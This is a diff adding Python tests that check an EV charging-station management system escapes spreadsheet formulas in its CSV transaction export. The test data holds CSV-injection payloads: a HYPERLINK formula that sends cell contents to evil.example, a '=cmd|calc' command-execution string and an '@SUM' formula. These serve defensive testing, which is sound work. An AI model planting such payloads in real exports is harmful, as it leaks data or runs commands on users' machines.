@@ -82,3 +82,38 @@ async def test_filters_detail_and_csv(server: Runtime, client: httpx.AsyncClient
     finally:
         await a.close()
         await b.close()
+
+
+async def test_csv_export_neutralises_formulas(server: Runtime, client: httpx.AsyncClient) -> None:
+    """A station id or id tag a spreadsheet would run as a formula is exported as text."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    await server.domain.tokens.add("@SUM(1+1)")
+    station = await RawStation.open(server.ocpp_url, "=cmd|calc", ("ocpp1.6",))
+    try:
+        await station.call("BootNotification", BOOT16)
+        await charge(station, 1, "@SUM(1+1)", "04", 1000)
+        start = await station.call(
+            "StartTransaction",
+            {"connectorId": 2, "idTag": formula[:20], "meterStart": 0, "timestamp": "2026-01-05T10:00:00Z"},
+        )
+        assert start[0] == 3
+    finally:
+        await station.close()
+    export = await client.get("/api/v1/transactions/export.csv", params={"sort": "id"})
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert [(r["station_id"], r["id_token"]) for r in rows] == [
+        ("'=cmd|calc", "'@SUM(1+1)"),
+        ("'=cmd|calc", "'" + formula[:20]),
+    ]
+    assert rows[0]["energy_wh"] == "1000.0"  # numbers stay numbers
+
+
+def test_csv_cell_keeps_negative_numbers_and_plain_text() -> None:
+    from opencsms.api.transactions import csv_cell
+
+    assert csv_cell("-12.5") == "-12.5"
+    assert csv_cell("-cmd") == "'-cmd"
+    assert csv_cell("\tx") == "'\tx"
+    assert csv_cell("CP-1") == "CP-1"
+    assert csv_cell(None) == ""
+    assert csv_cell(3) == 3
